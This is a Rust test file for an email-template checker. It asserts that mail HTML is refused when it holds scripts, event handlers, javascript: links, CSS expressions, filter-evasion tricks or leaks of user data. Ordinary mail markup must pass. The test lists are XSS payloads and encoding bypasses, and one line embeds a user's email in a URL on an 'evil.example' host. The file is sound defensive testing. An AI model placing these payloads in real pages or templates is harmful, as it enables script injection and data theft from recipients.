use reinvite_domain::Rule;
use reinvite_mail::{TemplateValues, check_variant};

use crate::{render, template};

fn refused(html: &str) -> bool {
    let defects = check_variant("", &"en".parse().unwrap(), &template("s", html, "t"))
        .err()
        .unwrap_or_default();
    defects.iter().any(|located| !is_of_engine(&located.defect))
}

/// Whether the template engine reports the defect, and not a rule for HTML or for secrets.
const fn is_of_engine(defect: &Rule) -> bool {
    matches!(
        defect,
        Rule::TemplateSyntax { .. }
            | Rule::UnknownVariable { .. }
            | Rule::UndefinedValue { .. }
            | Rule::CannotEvaluate { .. }
    )
}

#[test]
fn html_that_runs_loads_or_hides_something_is_refused() {
    for html in [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://example.com/x.js></SCRIPT>",
        "<scr\nipt>x</scr\nipt>",
        "<\u{1a}script>x</script>",
        "<p \u{1}onclick=x>",
        "<img src=https://example.com/a.png onerror=alert(1)>",
        "<p onclick='alert(1)'>x</p>",
        "<p ONMOUSEOVER=alert(1)>x</p>",
        "<body onload=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mi>x</mi></math>",
        "<iframe src=https://example.com></iframe>",
        "<object data=https://example.com></object>",
        "<embed src=https://example.com>",
        "<applet code=x></applet>",
        "<form action=https://example.com><input name=password></form>",
        "<button>x</button>",
        "<textarea></textarea>",
        "<select><option>x</select>",
        "<link rel=stylesheet href=https://example.com/a.css>",
        "<base href=https://example.com/>",
        "<meta http-equiv=refresh content='0;url=https://example.com'>",
        "<meta http-equiv=' Refresh ' content='0'>",
        "<video src=https://example.com/a.mp4></video>",
        "<audio src=https://example.com/a.mp3></audio>",
        "<picture><source srcset=https://example.com/a.png></picture>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<template><script>x</script></template>",
        "<xmp><script>x</script></xmp>",
        "<plaintext>",
        "<frameset><frame src=https://example.com></frameset>",
        "<v:roundrect href='https://example.com'></v:roundrect>",
        "<!--><p title=\"--><script>x</script>\">y</p>",
        "<!---><p title=\"--><script>x</script>\">y</p>",
        "<!-- x --!><p title=\"--><script>x</script>\">y</p>",
        "<p title={{user.name}}>x</p>",
        "<img alt={{user.attributes.room}} src='https://example.com/a.png'>",
        "<!DOCTYPE html SYSTEM 'https://evil.example/{{ user.email }}'>",
        "<!DOCTYPE html PUBLIC '{{ user.attributes.room }}'>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href=' javascript:alert(1)'>x</a>",
        "<a href='JaVaScRiPt:alert(1)'>x</a>",
        "<a href='java\tscript:alert(1)'>x</a>",
        "<a href='java&#115;cript:alert(1)'>x</a>",
        "<a href='&#106;avascript:alert(1)'>x</a>",
        "<a href='&#x6A;avascript:alert(1)'>x</a>",
        "<a href='javascript&colon;alert(1)'>x</a>",
        "<a href='vbscript:x'>x</a>",
        "<a href='data:text/html,x'>x</a>",
        "<a href='//example.com/x'>x</a>",
        "<a href='login'>x</a>",
        "<a href='https://example.com/?u={{ user.email }}'>x</a>",
        "<a href='{{ user.name }}'>x</a>",
        "<a href='{{ login_url }}{{ user.name }}'>x</a>",
        "<a href='{{ login_url | upper }}'>x</a>",
        "<a href='{% if attempt > 1 %}https://example.com{% endif %}'>x</a>",
        "<img src='http://example.com/a.png'>",
        "<img src='https://example.com/{{ user.email }}.png'>",
        "<img src='data:image/svg+xml;base64,AAAA'>",
        "<img src='data:text/html,x'>",
        "<img src='https://example.com/a.png' srcset='https://example.com/{{ user.email }}'>",
        "<table background='https://example.com/{{ user.email }}.png'></table>",
        "<p style='background: URL (https://example.com)'>x</p><p style='b:u\\rl(x)'>",
        "<p style='width: expression(alert(1))'>x</p>",
        "<p style='behavior: x'>x</p>",
        "<p style='color: {{ user.name }}'>x</p>",
        "<p style='background: u&#114;l(x)'>x</p>",
        "<style>@import 'https://example.com/a.css';</style>",
        "<style>p { background: url('ftp://example.com') }</style>",
        "<style>p { color: {{ user.name }} }</style>",
        "<style></style><script>x</script>",
        "<style>p {}</style ><img src=x onerror=x>",
        "<p class='{{ user.name }}'>x</p>",
        "<{{ user.name }}>x",
        "<p {{ user.name }}>x</p>",
        "<p {% if attempt > 1 %}class='a'{% endif %}>x</p>",
        "<p title='{{ user.name | default(\"'\") }}'>x</p>",
        "<!--[if mso]><script>x</script><![endif]-->",
        "<!--[if mso]><p onclick=x>y</p><![endif]-->",
        "<!-- {{ user.email }} -->",
        "<p title='{{ password }}'>x</p>",
        "<img alt='{{ invitation_url }}' src='https://example.com/a.png'>",
        "<title>{{ password }}</title>",
        "<p>{{ password | reverse }}</p>",
        "<p>{{ password[0] }}</p>",
        "<p>{% for c in password %}{{ c }}{% endfor %}</p>",
        "<p>{% if password == 'x' %}{% endif %}</p>",
        "<p>{% set p = password %}</p>",
        "<p>{% filter upper %}{{ password }}{% endfilter %}</p>",
        "<a href='{{ password }}'>x</a>",
        "<a href='https://example.com/{{ invitation_url }}'>x</a>",
        "<p>x</p><a href='https://example.com",
    ] {
        assert!(refused(html), "{html}");
    }
}

#[test]
fn control_characters_hide_no_html_from_the_check() {
    for html in [
        "<\u{7}script>x</script>",
        "<{{ '\\u0007' }}img src=x onerror=y>",
        "<\u{2}p onclick=x>y</p>",
    ] {
        assert!(refused(html), "{html}");
    }
}

#[test]
fn ordinary_html_of_mails_is_accepted() {
    for html in [
        "",
        "plain text, 1 < 2, a & b",
        "<!doctype html><html lang=en dir=ltr xmlns:o=urn:x><head><meta charset=utf-8><title>{{ user.name }}</title></head></html>",
        "<meta http-equiv=Content-Type content='text/html; charset=utf-8'>",
        "<style>@media (max-width: 480px) { .page { padding: 0 !important; } }</style>",
        "<style>@media print{p{width:100%}}</style>",
        "<table role=presentation width=100% cellpadding=0 bgcolor=#fff><tr><td align=center valign=top>x</td></tr></table>",
        "<a href='{{ login_url }}' target=_blank rel=noopener>Log in</a>",
        "<a href='{{login_url}}'>{{ login_url }}</a><a href=\"{{- invitation_url -}}\">x</a>",
        "<a href='https://example.com/?a=1&amp;b=2&c=3#top'>x</a><a href='#top'>x</a><a href='mailto:help@example.com'>x</a>",
        "<img src='https://example.com/logo.png' alt='{{ organisation.name }}' width=10 height=10>",
        "<img src='data:image/png;base64,iVBORw0KGgo=' alt=''>",
        "<p title='{{ user.name }}' aria-label='{{ user.name }}' data-x=y>x</p>",
        "{% if attempt > 1 %}<p>Again</p>{% else %}<p>Hello</p>{% endif %}",
        "<ul>{% for group in user.groups %}<li>{{ group }}</li>{% endfor %}</ul>",
        "<table background='https://example.com/a.png'></table>",
        "<!--[if mso]><table><tr><td><![endif]--><p>x</p><!--[if mso]></td></tr></table><![endif]-->",
        "<!-- a note -->",
        "<p>{% if password_change == 'temporary' %}{{ password }} {{ expires_at }}{% endif %}</p>",
    ] {
        let checked = check_variant("", &"en".parse().unwrap(), &template("s", html, "t"));
        assert_eq!(checked, Ok(()), "{html}");
    }
}

#[test]
fn a_defect_of_html_has_its_line_and_column() {
    let html = "<p>日本</p>\r\n  <p>é</p><a href='javascript:x'>y</a>\n<b onclick=x>z</b>";
    let defects =
        check_variant("/edit", &"en".parse().unwrap(), &template("s", html, "t")).unwrap_err();
    let positions: Vec<_> = defects
        .iter()
        .map(|defect| {
            defect
                .position
                .map(|position| (position.line, position.column.unwrap()))
                .unwrap()
        })
        .collect();
    assert_eq!(positions, [(2, 20), (3, 4)]);
    assert!(defects.iter().all(|defect| defect.pointer == "/edit/html"));
}

#[test]
fn a_rendered_mail_is_checked_again() {
    let mut values = TemplateValues::sample("en");
    values.login_url = "javascript:alert(1)".to_owned();
    let error = render(
        &template("s", "<a href='{{ login_url }}'>x</a>", "t"),
        &values,
    )
    .unwrap_err();

    assert!(matches!(error.defect, Rule::LinkAddress), "{error}");
}
